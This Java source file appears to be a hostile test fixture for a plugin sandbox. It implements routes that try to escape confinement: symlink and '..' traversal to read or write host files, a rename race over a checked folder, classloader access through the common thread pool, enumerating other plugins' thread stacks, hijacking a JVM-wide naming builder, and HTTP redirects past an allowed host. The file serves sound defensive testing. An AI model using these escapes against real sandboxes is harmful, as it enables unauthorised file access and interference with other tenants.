package io.prsm.sample.hostile;

import java.io.File;
import java.lang.reflect.Proxy;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.ByteBuffer;
import java.nio.channels.SeekableByteChannel;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.nio.file.DirectoryStream;
import java.nio.file.Files;
import java.nio.file.LinkOption;
import java.nio.file.Path;
import java.nio.file.SecureDirectoryStream;
import java.nio.file.StandardOpenOption;
import java.util.Arrays;
import java.util.Set;

import org.osgi.service.component.annotations.Component;

import io.prsm.api.Plugin;
import io.prsm.api.PluginConfig;
import io.prsm.api.PluginException;
import io.prsm.api.PluginResponse;
import io.prsm.api.PluginType;
import io.prsm.api.SecurityLevel;
import io.prsm.api.Task;
import io.prsm.api.annotation.OutboundNetwork;
import io.prsm.api.annotation.PrsmPlugin;

/**
 * Hostile fixture, level sandbox: routes that reach an act beside the JDK methods the agent first
 * instrumented, or that a path rule reading names cannot judge. The task's {@code target} is
 * {@code route|argument|data folder}. The bytecode scan refuses every route at install; with the
 * scan switched off, the entitlement agent must stop each where the JDK acts. It declares outbound
 * access to 127.0.0.1 so a test can grant it and send its HTTP client elsewhere by a redirect.
 */
@PrsmPlugin(id = "reaches-past-the-sinks", version = "1.0.0", type = PluginType.UTILITY, level = SecurityLevel.SANDBOX,
        capabilities = "attack")
@OutboundNetwork(hosts = "127.0.0.1:*")
@Component(service = Plugin.class)
public final class ReachesPastTheSinksPlugin implements Plugin {

    @Override
    public void initialize(PluginConfig config) {
        // the attack waits for a task
    }

    @Override
    public PluginResponse execute(Task task) throws PluginException {
        String[] parts = task.requireString("target").split("\\|", -1);
        try {
            return PluginResponse.success(attack(parts[0], parts[1], parts.length > 2 ? parts[2] : ""));
        } catch (Exception | LinkageError e) {
            throw new PluginException(causes(e), e);
        } catch (Throwable other) {
            throw new PluginException(other.toString(), new RuntimeException(other));
        }
    }

    /**
     * Reads its own file {@code seen/f} (the check now knows {@code seen} and {@code seen/f} are no
     * links), then moves the operator's folder {@code holding} (whose {@code f} is a link out of the
     * data folder) over {@code seen} and reads {@code seen/f} again at once: a check that still
     * believed the names it saw would follow the link.
     */
    private static String moveOverSeen(Path data, String holding, boolean byFile) throws Exception {
        Path seen = data.resolve("seen");
        Files.createDirectories(seen);
        Files.writeString(seen.resolve("f"), "mine");
        Files.readString(seen.resolve("f"));
        Files.delete(seen.resolve("f"));
        Files.delete(seen);
        if (byFile) {
            if (!data.resolve(holding).toFile().renameTo(seen.toFile())) {
                return "not renamed";
            }
        } else {
            Files.move(data.resolve(holding), seen);
        }
        return Files.readString(seen.resolve("f"));
    }

    /** The JVM's threads, found by walking up thread groups (no checked call lists them). */
    private static Thread[] foreignThreads() {
        ThreadGroup top = Thread.currentThread().getThreadGroup();
        while (top.getParent() != null) {
            top = top.getParent();
        }
        Thread[] threads = new Thread[top.activeCount() + 16];
        int found = top.enumerate(threads, true);
        return java.util.Arrays.copyOf(threads, found);
    }

    private static String attack(String route, String argument, String data) throws Exception {
        switch (route) {
        case "secure-directory-read":
            // its own folder is its to list; the stream's opens act relative to it, beside the provider
            try (SecureDirectoryStream<Path> folder = secure(data);
                    SeekableByteChannel channel = folder.newByteChannel(Path.of(argument), Set.of(StandardOpenOption.READ))) {
                ByteBuffer buffer = ByteBuffer.allocate(256);
                channel.read(buffer);
                return new String(buffer.array(), 0, buffer.position(), StandardCharsets.UTF_8);
            }
        case "secure-directory-write":
            try (SecureDirectoryStream<Path> folder = secure(data); SeekableByteChannel channel = folder.newByteChannel(
                    Path.of(argument), Set.of(StandardOpenOption.CREATE, StandardOpenOption.WRITE))) {
                channel.write(ByteBuffer.wrap("escaped".getBytes(StandardCharsets.UTF_8)));
                return "written";
            }
        case "secure-directory-delete":
            try (SecureDirectoryStream<Path> folder = secure(data)) {
                folder.deleteFile(Path.of(argument));
                return "deleted";
            }
        case "symlink-read":
            return Files.readString(upAndOut(data, argument));
        case "symlink-write":
            Files.writeString(upAndOut(data, argument), "escaped");
            return "written";
        case "existing-link-read":
            // a link the operator made in its folder (or one from before links were refused): the path names only
            // folders inside it, the kernel follows the link out
            return Files.readString(Path.of(data).resolve(argument));
        case "existing-link-write":
            Files.writeString(Path.of(data).resolve(argument), "escaped");
            return "written";
        case "common-pool-loader":
            // work on the common pool (a parallel stream's, a ForkJoinTask's) runs on workers whose context loader
            // the JDK 17 pool took from whichever thread made them: the runtime's own, or another plugin's
            // waited for by a latch: get() would run the task on this thread if no worker took it yet
            java.util.concurrent.CountDownLatch ran = new java.util.concurrent.CountDownLatch(1);
            String[] answer = new String[1];
            java.util.concurrent.ForkJoinPool.commonPool().execute(() -> {
                ClassLoader context = Thread.currentThread().getContextClassLoader();
                try {
                    answer[0] = "context loader " + context + ": loaded " + Class.forName(argument, false, context).getName();
                } catch (ClassNotFoundException | RuntimeException | LinkageError refused) {
                    answer[0] = "context loader " + context + ": not loaded, " + refused;
                } finally {
                    ran.countDown();
                }
            });
            return ran.await(10, java.util.concurrent.TimeUnit.SECONDS) ? answer[0] : "no worker ran it";
        case "virtual-thread": {
            // a virtual thread's CPU time and allocations are measured per thread by no JVM: it would spin and keep
            // memory unseen by the CPU share and the low-memory guard (atk3, JDK 21+); by reflection, as this
            // sample is built for JDK 17
            java.lang.reflect.Method ofVirtual;
            try {
                ofVirtual = Thread.class.getMethod("ofVirtual");
            } catch (NoSuchMethodException beforeJdk21) {
                return "no virtual threads on this JDK";
            }
            Object builder = ofVirtual.invoke(null);
            Thread started = (Thread) Class.forName("java.lang.Thread$Builder").getMethod("start", Runnable.class)
                    .invoke(builder, (Runnable) () -> { });
            started.join();
            return "started " + started;
        }
        case "move-link-over-seen":
            return moveOverSeen(Path.of(data), argument, false);
        case "rename-link-over-seen":
            return moveOverSeen(Path.of(data), argument, true);
        case "all-stack-traces":
            // every thread of the JVM and what it runs: the platform's and other plugins' classes
            return String.valueOf(Thread.getAllStackTraces().size());
        case "foreign-stack-trace":
            for (Thread thread : foreignThreads()) {
                if (thread.getName().equals(argument)) {
                    return java.util.Arrays.toString(thread.getStackTrace());
                }
            }
            return "no thread named " + argument;
        case "adaptor-connect":
            try (SocketChannel channel = SocketChannel.open()) {
                channel.socket().connect(address(argument));
                return "connected";
            }
        case "list-files":
            return Arrays.toString(new File(argument).listFiles());
        case "temp-file":
            return File.createTempFile("escaped", ".txt", new File(argument)).getPath();
        case "reverse-lookup":
            return address(argument + ":0").getAddress().getHostName();
        case "naming-builder":
            return namingBuilder();
        case "http-get":
            // what a plugin granted the host may still do: a client that follows no redirect
            return String.valueOf(HttpClient.newHttpClient().send(HttpRequest.newBuilder(URI.create(argument)).build(),
                    HttpResponse.BodyHandlers.ofString()).statusCode());
        case "http-redirect-common-pool":
        case "http-redirect-own-pool":
        case "http-redirect":
            // the request names a host the plugin may reach; the answer sends the client elsewhere
            HttpClient.Builder builder = HttpClient.newBuilder().followRedirects(HttpClient.Redirect.ALWAYS);
            if (route.endsWith("common-pool")) {
                builder.executor(java.util.concurrent.ForkJoinPool.commonPool());
            } else if (route.endsWith("own-pool")) {
                builder.executor(new java.util.concurrent.ForkJoinPool(2));
            }
            HttpClient client = builder.build();
            return String.valueOf(client.send(HttpRequest.newBuilder(URI.create(argument)).build(),
                    HttpResponse.BodyHandlers.ofString()).statusCode());
        default:
            throw new IllegalArgumentException("no route " + route);
        }
    }

    /** Every InitialContext of the JVM, for the JVM's life, made by the plugin's builder (set once, never reset). */
    private static String namingBuilder() throws Exception {
        ClassLoader platform = ClassLoader.getPlatformClassLoader();
        Class<?> builder = Class.forName("javax.naming.spi.InitialContextFactoryBuilder", true, platform);
        Object mine = Proxy.newProxyInstance(platform, new Class<?>[] { builder }, (proxy, method, args) -> null);
        Class.forName("javax.naming.spi.NamingManager", true, platform)
                .getMethod("setInitialContextFactoryBuilder", builder).invoke(null, mine);
        return "set";
    }

    /**
     * A path whose names stay in the data folder while the kernel leaves it: a link deep in the
     * folder back to the folder itself, then as many ".." as the folder is deep. Read name by name
     * (as a check that does not follow links does), each ".." only undoes a folder the path named.
     */
    private static Path upAndOut(String data, String hostFile) throws Exception {
        Path folder = Path.of(data).toAbsolutePath();
        int depth = folder.getNameCount();
        Path deep = folder;
        for (int i = 0; i < depth; i++) {
            deep = deep.resolve("d" + i);
        }
        Files.createDirectories(deep);
        Path link = deep.resolve("up");
        if (!Files.exists(link, LinkOption.NOFOLLOW_LINKS)) {
            Files.createSymbolicLink(link, folder);
        }
        StringBuilder out = new StringBuilder(link.toString());
        for (int i = 0; i < depth; i++) {
            out.append("/..");
        }
        return Path.of(out + hostFile);
    }

    private static SecureDirectoryStream<Path> secure(String data) throws Exception {
        // its own data folder, which it may create
        Files.createDirectories(Path.of(data));
        DirectoryStream<Path> stream = Files.newDirectoryStream(Path.of(data));
        if (stream instanceof SecureDirectoryStream<Path> secure) {
            return secure;
        }
        stream.close();
        throw new IllegalStateException("no secure directory stream on this platform");
    }

    /** An address literal (a.b.c.d:port), so that naming the target resolves nothing. */
    private static InetSocketAddress address(String hostPort) throws java.net.UnknownHostException {
        int colon = hostPort.lastIndexOf(':');
        String[] octets = hostPort.substring(0, colon).split("\\.");
        byte[] raw = new byte[4];
        for (int i = 0; i < 4; i++) {
            raw[i] = (byte) Integer.parseInt(octets[i]);
        }
        return new InetSocketAddress(InetAddress.getByAddress(raw), Integer.parseInt(hostPort.substring(colon + 1)));
    }

    /** The whole chain, so a test sees which act was refused under a client's or a pool's wrapping. */
    private static String causes(Throwable thrown) {
        StringBuilder text = new StringBuilder(thrown.toString());
        for (Throwable cause = thrown.getCause(); cause != null && text.length() < 2000; cause = cause.getCause()) {
            text.append(" <- ").append(cause);
        }
        return text.toString();
    }

    @Override
    public void shutdown() {
        // nothing held
    }
}
